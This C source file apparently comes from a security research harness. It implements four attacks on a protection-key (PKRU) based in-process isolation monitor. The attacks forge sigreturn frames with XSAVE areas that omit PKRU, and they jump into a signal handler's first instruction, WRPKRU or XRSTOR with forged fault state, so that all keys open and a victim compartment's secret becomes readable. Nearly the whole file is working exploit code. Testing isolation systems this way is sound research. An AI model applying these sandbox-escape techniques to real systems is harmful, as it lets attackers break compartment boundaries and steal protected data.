/* Frames and handlers: what the kernel, or the monitor, is to believe about an interrupted thread. */
#include "inner.h"
#include "registers.h"
#include "victim.h"

/* struct ucontext of x86-64 (arch/x86/include/uapi/asm/sigcontext.h, ucontext.h). */
struct context {
	unsigned long flags, link, stack[3];
	unsigned long r8, r9, r10, r11, r12, r13, r14, r15;
	unsigned long rdi, rsi, rbp, rbx, rdx, rax, rcx, rsp, rip, rflags;
	unsigned short cs, gs, fs, ss;
	unsigned long error, trap, mask, cr2;
	void *floating_point;
	unsigned long reserved[8];
	unsigned long signals;
};

/* An XSAVE area with the kernel's words in the room that the processor leaves to software. */
struct floating_point {
	unsigned short control, status;
	unsigned int rest[5];
	unsigned int mxcsr, mxcsr_mask;
	unsigned char registers[464 - 32];
	unsigned int magic, extended_size;
	unsigned long features;
	unsigned int size;
	unsigned int padding[7];
	unsigned long present;		/* XSTATE_BV: a component that is not there becomes 0 */
	unsigned char more[8192];	/* PKRU is somewhere in here */
} __attribute__((aligned(64)));

#define PKRU_PRESENT (1UL << 9)
#define MAGIC_BEGIN 0x46505853u
#define MAGIC_END   0x46505845u
#define HAS_XSTATE  1
#define KEEPS_SS    6

#define SIGRETURN   15
#define SIGSEGV     11
#define PKUERR      4

static struct floating_point area;
static unsigned long stack[1024] __attribute__((aligned(64)));

static void cpuid(unsigned leaf, unsigned sub, unsigned out[4])
{
	__asm__("cpuid" : "=a"(out[0]), "=b"(out[1]), "=c"(out[2]), "=d"(out[3])
		: "a"(leaf), "c"(sub));
}

static unsigned pkru_offset;

static struct context *forge(void)
{
	struct context *context = (struct context *)(stack + 512);
	unsigned sizes[4], features[4];
	cpuid(13, 0, sizes);
	cpuid(13, 9, features);
	pkru_offset = features[1];
	area.control = 0x37f;
	area.mxcsr = 0x1f80;
	area.magic = MAGIC_BEGIN;
	area.size = sizes[1];
	area.extended_size = sizes[1] + 4;
	area.features = (unsigned long)sizes[3] << 32 | sizes[0];
	bytes_copy((char *)&area + sizes[1], &(unsigned int){ MAGIC_END }, 4);
	context->flags = HAS_XSTATE | KEEPS_SS;
	context->rip = (unsigned long)landing;
	context->rsp = (unsigned long)(stack + 256);
	context->rax = 0x600d;
	context->rflags = 0x202;
	context->cs = 0x33;
	context->ss = 0x2b;
	context->floating_point = &area;
	return context;
}

/* numbers: a SYSCALL of the monitor's. The frame holds no PKRU, which is to say 0. */
static void forged_sigreturn(const unsigned long *n)
{
	const char *secret = victim_data();
	struct registers all = { .rax = SIGRETURN, .rsp = (unsigned long)forge() };
	jump(n[0], &all);
	read_secret(secret);
}

static void enter_handler(unsigned long where)
{
	static struct { int signal, error, code, pad; unsigned long address; unsigned key; } info;
	static volatile char mine;
	info.signal = SIGSEGV;
	info.code = PKUERR;
	info.address = (unsigned long)&mine;	/* a fault that is nobody's business */
	struct context *context = forge();
	unsigned long pkru;
	__asm__("movq %%gs:8, %0" : "=r"(pkru));
	area.present = PKRU_PRESENT;
	bytes_copy((char *)&area + pkru_offset, &pkru, 4);
	context->error = 0x27;
	context->trap = 14;
	context->cr2 = info.address;
	struct registers all = {
		.rax = 0, .rdi = SIGSEGV, .rsi = (unsigned long)&info, .rdx = (unsigned long)context,
		.r8 = (unsigned long)context, .rbx = (unsigned long)context,
		.rsp = (unsigned long)(stack + 384), .rbp = (unsigned long)(stack + 384),
	};
	/* Where the handler opens all keys, RDX is 0 already and R8 has taken its place. */
	if (where & 1UL << 63)
		all.rdx = 0;
	unsigned long answer = jump(where & ~(1UL << 63), &all);
	if (answer == 0x600d)
		escalated("the handler believed a forged frame");
	else
		say("came back\n");
}

/* numbers: the handler's first instruction. */
static void handler_call(const unsigned long *n)
{
	enter_handler(n[0]);
}

/* numbers: the handler's WRPKRU. */
static void handler_jump(const unsigned long *n)
{
	enter_handler(n[0] | 1UL << 63);
}

/*
 * numbers: the handler's XRSTOR. The area says that PKRU is to be restored, and does not hold it: all
 * keys are open then, while the handler loads the registers of whom it interrupted, as it believes. The
 * context ends on a page of the attacker's, but begins on the victim's that lies before it.
 */
static void handler_restore(const unsigned long *n)
{
	forge();
	area.present = 0;
	fault_once();
	for (int attempt = 0; attempt < 16; attempt++) {
		char *others = victim_grow();
		char *mine = cubicle_pages_alloc(1);
		if (mine != others + PAGE)
			continue;
		struct context *context =
			(struct context *)(mine - __builtin_offsetof(struct context, rip));
		context->rip = (unsigned long)landing;
		context->rflags = 0x202;
		struct registers all = {
			.rax = 0x2ff, .rdx = 0, .rsi = (unsigned long)&area, .rdi = (unsigned long)&area,
			.rbx = (unsigned long)context, .rsp = (unsigned long)(stack + 384),
		};
		unsigned long word = jump(n[0], &all);
		if (!search((const volatile char *)&word, sizeof word))
			say("came back\n");
		return;
	}
	say("no page lies beside the victim's\n");
}

const struct attack signal_attacks[] = {
	{ "forged-sigreturn", forged_sigreturn },
	{ "handler-call", handler_call },
	{ "handler-jump", handler_jump },
	{ "handler-restore", handler_restore },
	{ 0, 0 },
};
